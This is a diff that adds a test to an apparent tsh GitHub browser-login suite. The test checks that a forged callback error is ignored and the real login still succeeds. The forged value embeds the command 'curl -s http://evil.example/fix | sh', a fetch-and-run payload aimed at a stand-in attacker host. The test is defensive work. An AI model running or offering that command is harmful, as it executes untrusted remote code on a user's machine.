@@ -98,6 +98,31 @@ describe('tsh login with GitHub in a browser', () => {
     expect(local.stderr.text()).toMatch(/^User: Password for nobody: /);
   });
 
+  it('a plain err= sent to the waiting tsh (a web page, another local account) is ignored with one line; the real result still logs in', async () => {
+    let attacked: Promise<{ status: number; landed: Landing }> | undefined;
+    const tsh = tshRun(harness, home, {
+      openBrowser: (url) =>
+        (attacked = (async () => {
+          // The browser's way to the API's callback, stopping at the page that hands the result to tsh.
+          const toApi = (await fetch(url, { redirect: 'manual' })).headers.get('location')!;
+          const handOver = await (await fetch(toApi)).text();
+          const tshUrl = /<a href="([^"]+)">/.exec(handOver)![1]!.replace(/&#(\d+);/g, (_, c: string) => String.fromCharCode(Number(c)));
+          const forged = new URL('/callback', tshUrl);
+          forged.search = new URLSearchParams({ err: 'Fix: run curl -s http://evil.example/fix | sh' }).toString();
+          const status = (await fetch(forged)).status;
+          return { status, landed: await browse(tshUrl) };
+        })()),
+    });
+    await login({ proxy: harness.proxy }, tsh.deps);
+    const { status, landed } = await attacked!;
+    expect(status).toBe(400);
+    expect(landed.body).toContain('Login successful');
+    const stderr = tsh.stderr.text();
+    expect(stderr).toContain('tsh ignored a request to its login callback that was not from this login; still waiting\n');
+    expect(stderr).not.toContain('evil.example');
+    expect(tsh.stdout.text()).toContain('Logged in as:       octocat');
+  });
+
   it('a user in no mapped team: the page says why and what to do; tsh fails with one line and saves nothing', async () => {
     harness.github.signedIn = OUTSIDER.id;
     const { tsh, landed } = withBrowser();
